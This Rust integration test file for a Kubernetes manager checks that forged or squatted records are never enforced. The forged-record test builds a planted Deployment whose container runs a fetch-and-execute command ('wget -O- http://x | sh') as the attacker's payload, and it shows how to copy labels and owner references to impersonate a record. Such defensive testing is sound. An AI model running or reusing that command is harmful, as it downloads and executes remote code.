//! Drift (`drift.v1`) against what a tenant of a managed namespace can
//! do (SECURITY.md): a squatted name does not keep the deployment's own
//! objects from being restored and is never touched; a forged record is
//! never enforced, whatever signatures require; a record being deleted,
//! or whose deployment is gone, is never enforced.

mod support;

use nexo_manager::kube::client::MERGE_PATCH;
use serde_json::{Value, json};
use support::commands::{command, ns_path, wait_ack, wait_heartbeat};
use support::drift::{WAIT, base64_encode, deploy, drift_of, edit, get, squat, wait_drift};
use support::fixture::Fixture;

#[test]
fn a_forged_record_is_never_enforced_and_is_reported_with_signatures_required() {
    let f = Fixture::new("drift-forged");
    // Signed commands required: a signature protects commands, and the
    // record is not one; its proof is what protects it.
    let keys = f.dir.join("command-keys");
    std::fs::write(&keys, format!("{}\n", f.sim.sign_commands(&f.env_id, "k1"))).unwrap();
    let mut m = f.spawn_with_probes(&[
        ("NEXO_DRIFT_INTERVAL", "1s"),
        ("NEXO_COMMAND_KEYS_FILE", keys.to_str().unwrap()),
        ("NEXO_COMMAND_SIGNATURES", "required"),
    ]);
    deploy(&f, &mut m, "df-deploy", json!({"mode": "enforce"}));
    let real = get(&f, "Secret", "nexo-applied-orders").expect("the record");
    m.check(
        real["metadata"]["annotations"]["nexo.io/proof"]
            .as_str()
            .is_some_and(|p| p.starts_with("v1:")),
        &format!(
            "the Manager's record carries its proof: {}",
            real["metadata"]
        ),
    );
    // Who may write Secrets in the namespace replaces the record with one
    // of their own (the labels and owner copied from the real one) that
    // plants a Deployment running a shell, and forges a record of a
    // deployment that does not exist.
    let plant = json!({"deployment": {"name": "orders", "namespace": f.ns.name}, "format": "legacy",
        "manifests": [{"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "orders"},
            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "ghost"}},
                     "template": {"metadata": {"labels": {"app": "ghost"}},
                                  "spec": {"containers": [{"name": "c", "image": support::fixture::PROXY_IMAGE,
                                                           "command": ["sh", "-c", "wget -O- http://x | sh"]}]}}}}],
        "drift": {"mode": "enforce"}});
    let forged = |name: &str, payload: &Value| {
        let mut meta = real["metadata"].clone();
        let meta = meta.as_object_mut().unwrap();
        meta.retain(|k, _| ["labels", "ownerReferences"].contains(&k.as_str()));
        meta.insert("name".into(), json!(name));
        json!({"apiVersion": "v1", "kind": "Secret", "metadata": meta,
               "data": {"payload": base64_encode(&serde_json::to_vec(payload).unwrap())}})
    };
    let secrets = format!("/api/v1/namespaces/{}/secrets", f.ns.name);
    f.tb.admin()
        .delete(&ns_path(&f, "Secret", "nexo-applied-orders"), "Background")
        .unwrap();
    m.wait_until(WAIT, "the real record gone", || {
        get(&f, "Secret", "nexo-applied-orders").is_none()
    });
    f.tb.admin()
        .create(&secrets, &forged("nexo-applied-orders", &plant))
        .unwrap();
    let mut ghost = plant.clone();
    ghost["deployment"]["name"] = json!("ghost");
    ghost["manifests"][0]["metadata"]["name"] = json!("ghost");
    f.tb.admin()
        .create(&secrets, &forged("nexo-applied-ghost", &ghost))
        .unwrap();
    let now = f.sim.heartbeats().len();
    let not_ours = |d: Option<&Value>, secret: &str| {
        d.is_some_and(|d| {
            d["objects"].as_array().unwrap().iter().any(|o| {
                o["action"] == "failed"
                    && o["name"] == secret
                    && o["message"]
                        .as_str()
                        .is_some_and(|s| s.contains("the record is not the Manager's"))
            })
        })
    };
    wait_drift(
        &f,
        &mut m,
        now,
        "orders",
        "the replaced record reported",
        |d| not_ours(d, "nexo-applied-orders"),
    );
    wait_drift(
        &f,
        &mut m,
        now,
        "ghost",
        "the forged record reported",
        |d| not_ours(d, "nexo-applied-ghost"),
    );
    // Three checks later nothing was planted.
    let later = f.sim.heartbeats().len() + 3;
    wait_heartbeat(&f, &mut m, later, "three heartbeats later", |_| Some(()));
    for name in ["orders", "ghost"] {
        m.check(
            get(&f, "Deployment", name).is_none(),
            &format!("no Deployment {name} created from a forged record"),
        );
    }
    let hb = f.sim.last_heartbeat().unwrap();
    m.check(
        hb["deployments"]
            .as_array()
            .unwrap()
            .iter()
            .all(|d| d["name"] != "ghost"),
        &format!("no ghost in the inventory: {}", hb["deployments"]),
    );
    // An uninstall of `ghost` (not installed) leaves the forged record
    // alone: it is not the Manager's to delete.
    f.sim.enqueue_command(
        &f.env_id,
        command(
            "df-uninstall-ghost",
            "uninstall",
            json!({"deployment": {"name": "ghost", "namespace": f.ns.name}}),
        ),
    );
    let ack = wait_ack(&f, &mut m, "df-uninstall-ghost");
    m.check(ack["result"] == "applied", &format!("uninstall: {ack}"));
    m.check(
        get(&f, "Secret", "nexo-applied-ghost").is_some(),
        "a record that is not the Manager's is never deleted by it",
    );
    m.stop_expecting_exit_0();
}

#[test]
fn a_squatted_name_is_left_alone_and_the_deployments_own_objects_are_restored() {
    let f = Fixture::new("drift-squat");
    let mut m = f.spawn_with_probes(&[("NEXO_DRIFT_INTERVAL", "1s")]);
    deploy(&f, &mut m, "ds-deploy", json!({"mode": "enforce"}));
    squat(&f, &mut m, "orders-config");
    // The squat's failure first: an edit made between a check's lists and
    // its enforcement of the squatted name would be put back by that
    // enforcement, never found, and the test would wait for a report that
    // cannot come.
    let start = f.sim.heartbeats().len();
    wait_drift(
        &f,
        &mut m,
        start,
        "orders",
        "the squatted name failed",
        |d| {
            d.is_some_and(|d| {
                d["objects"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|o| o["kind"] == "ConfigMap" && o["action"] == "failed")
            })
        },
    );
    edit(
        &f,
        "NexoProxy",
        "orders",
        json!({"spec": {"image": "registry.example.com/nexo/proxy:0.0.1"}}),
    );
    let start = f.sim.heartbeats().len();
    let (_, d) = wait_drift(
        &f,
        &mut m,
        start,
        "orders",
        "the proxy restored beside the squatted ConfigMap",
        |d| {
            d.is_some_and(|d| {
                let objects = d["objects"].as_array().unwrap();
                objects
                    .iter()
                    .any(|o| o["kind"] == "NexoProxy" && o["action"] == "corrected")
                    && objects
                        .iter()
                        .any(|o| o["kind"] == "ConfigMap" && o["action"] == "failed")
            })
        },
    );
    let d = d.unwrap();
    let failed = d["objects"]
        .as_array()
        .unwrap()
        .iter()
        .find(|o| o["kind"] == "ConfigMap")
        .unwrap();
    m.check(
        failed["name"] == "orders-config"
            && failed["gone"] == true
            && failed["message"]
                .as_str()
                .is_some_and(|s| s.contains("not managed by nexo-manager")),
        &format!("the squatted object failed with the reason: {d}"),
    );
    let p = get(&f, "NexoProxy", "orders").unwrap();
    m.check(
        p["spec"]["image"] == support::fixture::PROXY_IMAGE,
        &format!("the deployment's own object restored: {}", p["spec"]),
    );
    let cm = get(&f, "ConfigMap", "orders-config").unwrap();
    m.check(
        cm["data"]["listen"] == "9" && cm["metadata"]["labels"] == json!({"team": "theirs"}),
        &format!("the tenant's object untouched: {cm}"),
    );
    // Reported while it lasts, and not tried again (no reads, no dry
    // runs) while nothing changed.
    let now = f.sim.heartbeats().len();
    wait_drift(&f, &mut m, now + 3, "orders", "three checks later", |d| {
        d.is_some_and(|d| {
            d["objects"]
                .as_array()
                .unwrap()
                .iter()
                .any(|o| o["action"] == "failed")
        })
    });
    let held = m
        .stderr()
        .matches("failed before and nothing changed; not tried again")
        .count();
    m.check(
        held >= 2,
        &format!("the failed enforcement held, {held} times"),
    );
    m.stop_expecting_exit_0();
}

#[test]
fn a_record_being_deleted_or_whose_deployment_is_gone_is_never_enforced() {
    let f = Fixture::new("drift-uninstall");
    let mut m = f.spawn_with_probes(&[("NEXO_DRIFT_INTERVAL", "1s")]);
    deploy(&f, &mut m, "du-deploy", json!({"mode": "enforce"}));
    // A backup tool's finalizer holds the record.
    let record = ns_path(&f, "Secret", "nexo-applied-orders");
    f.tb.admin()
        .patch(
            &record,
            MERGE_PATCH,
            &json!({"metadata": {"finalizers": ["backup.example.com/hold"]}}),
        )
        .unwrap();
    // A record being deleted (the deployment still there) is not enforced.
    f.tb.admin().delete(&record, "Background").unwrap();
    edit(
        &f,
        "NexoProxy",
        "orders",
        json!({"spec": {"image": "registry.example.com/nexo/proxy:0.0.1"}}),
    );
    let now = f.sim.heartbeats().len();
    wait_heartbeat(&f, &mut m, now + 4, "four heartbeats later", |_| Some(()));
    m.check(
        get(&f, "NexoProxy", "orders")
            .is_some_and(|p| p["spec"]["image"] == "registry.example.com/nexo/proxy:0.0.1"),
        "a record being deleted is never enforced",
    );
    f.sim.enqueue_command(
        &f.env_id,
        command(
            "du-uninstall",
            "uninstall",
            json!({"deployment": {"name": "orders", "namespace": f.ns.name}}),
        ),
    );
    let ack = wait_ack(&f, &mut m, "du-uninstall");
    m.check(ack["result"] == "applied", &format!("uninstall: {ack}"));
    let held = get(&f, "Secret", "nexo-applied-orders");
    m.check(
        held.as_ref()
            .is_some_and(|r| !r["metadata"]["deletionTimestamp"].is_null()),
        &format!("the record deleted, held by the finalizer: {held:?}"),
    );
    // Checks go on for five seconds: the NexoProxy stays uninstalled.
    let now = f.sim.heartbeats().len();
    wait_heartbeat(&f, &mut m, now + 5, "five heartbeats later", |_| Some(()));
    m.check(
        get(&f, "NexoProxy", "orders")
            .is_none_or(|p| !p["metadata"]["deletionTimestamp"].is_null()),
        "the uninstalled NexoProxy never comes back",
    );
    m.check(
        f.sim
            .heartbeats()
            .iter()
            .skip(now)
            .all(|hb| drift_of(hb, "orders").is_none()),
        "nothing reported of an uninstalled deployment",
    );
    f.tb.admin()
        .patch(
            &record,
            MERGE_PATCH,
            &json!({"metadata": {"finalizers": null}}),
        )
        .unwrap();
    m.stop_expecting_exit_0();
}
